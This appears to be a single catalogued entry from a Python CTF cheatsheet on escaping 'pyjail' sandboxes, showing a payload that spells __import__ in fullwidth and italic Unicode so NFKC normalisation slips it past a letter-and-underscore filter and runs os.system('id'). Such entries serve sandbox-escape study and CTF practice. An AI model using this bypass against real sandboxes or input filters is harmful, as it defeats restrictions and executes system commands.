# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (no ASCII letters, no underscores: _＿𝘪𝘮𝘱𝘰𝘳𝘵＿_)
# Family: unicode-nfkc
# What: fullwidth low line and italic letters spell __import__
_＿𝘪𝘮𝘱𝘰𝘳𝘵＿_("os").system("id")
